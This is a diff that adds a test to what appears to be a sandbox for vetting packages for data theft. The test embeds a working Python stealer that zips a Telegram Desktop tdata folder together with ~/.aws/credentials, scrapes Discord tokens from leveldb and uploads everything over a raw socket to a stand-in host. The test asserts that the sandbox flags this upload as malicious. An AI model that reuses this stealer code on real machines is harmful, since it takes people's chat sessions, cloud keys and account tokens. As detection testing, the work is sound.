@@ -236,6 +236,65 @@ def test_aws_credentials_posted_base64_over_http_is_proven(tmp_path: Path, leak_
     assert report.findings[0].rule_id == "PS010"
 
 
+def test_a_zipped_telegram_session_and_a_linux_discord_token_are_proven(
+    tmp_path: Path, leak_check: LeakCheck
+) -> None:
+    # The Linux desktop stealer: it looks for a directory named like Telegram within
+    # three levels of HOME, zips its tdata with a text dump of the AWS credentials
+    # (deflated: the dump's bytes are not sent as they are; tdata's random ones may go
+    # in stored blocks) and posts the archive as a multipart upload; then it greps
+    # Discord's leveldb for a token. The stores are where the Linux clients keep them.
+    r = Randomised()
+    host, path = r.address(), f"/bot{r.name('b')}/sendDocument"
+    src = textwrap.dedent(f"""\
+        import io, json, os, re, socket, zipfile
+        home = os.path.expanduser("~")
+        found = None
+        for top, dirs, files in os.walk(home):
+            if top.count(os.sep) - home.count(os.sep) >= 3:
+                dirs[:] = []
+            if "telegram" in top.lower() and os.path.isdir(os.path.join(top, "tdata")):
+                found = os.path.join(top, "tdata")
+                break
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+            for d, _, names in os.walk(found):
+                for n in names:
+                    z.write(os.path.join(d, n), os.path.relpath(os.path.join(d, n), found))
+            z.writestr("passwords.txt", open(os.path.join(home, ".aws/credentials")).read())
+        archive = buf.getvalue()
+        ldb = os.path.join(home, ".config/discord/Local Storage/leveldb")
+        tokens = []
+        for n in os.listdir(ldb):
+            if n.endswith(".ldb"):
+                data = open(os.path.join(ldb, n), "rb").read()
+                tokens += re.findall(rb"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}", data)
+        part = b'Content-Disposition: form-data; name="document"; filename="a.zip"'
+        body = (b"--b0\\r\\n" + part + b"\\r\\n\\r\\n"
+                + archive + b"\\r\\n--b0\\r\\nContent-Disposition: form-data; name=\\"caption\\"\\r\\n\\r\\n"
+                + json.dumps([t.decode() for t in tokens]).encode() + b"\\r\\n--b0--\\r\\n")
+        s = socket.create_connection(({host!r}, {LEAK_PORT}), timeout=5)
+        s.sendall(b"POST {path} HTTP/1.1\\r\\nHost: {MARKER}.example\\r\\n"
+                  b"Content-Type: multipart/form-data; boundary=b0\\r\\n"
+                  b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+        s.recv(200)
+        s.close()
+        print("FACTS " + json.dumps({{"tdata": found, "zipped": len(archive), "tokens": len(tokens)}}))
+        """)
+    report = vet(tmp_path, leak_check, r.name("tgsteal"), src)
+    facts = output_facts(report)
+    assert facts["tdata"].endswith("/.local/share/TelegramDesktop/tdata") and facts["tokens"] == 1, facts
+    net = net_of(report)
+    default = [x for x in net.exfiltration if x.pass_name == "default"]
+    xs = {x.location: x for x in default}
+    tg = xs.get("~/.local/share/TelegramDesktop/tdata/key_datas")
+    assert tg is not None and tg.destination == f"{host}:{LEAK_PORT}", xs
+    assert "~/.config/discord/Local Storage/leveldb/000005.ldb" in xs, xs
+    aws = xs.get("~/.aws/credentials")
+    assert aws is not None and "zip" in aws.encoding, xs  # only the archive's member holds it
+    assert report.findings[0].rule_id == "PS010" and report.verdict is Verdict.MALICIOUS
+
+
 def test_tls_sni_raw_udp_and_ctypes_connect_are_recorded(tmp_path: Path, leak_check: LeakCheck) -> None:
     r = Randomised()
     sni = f"{MARKER}.{r.domain().replace('.example', '.invalid')}"
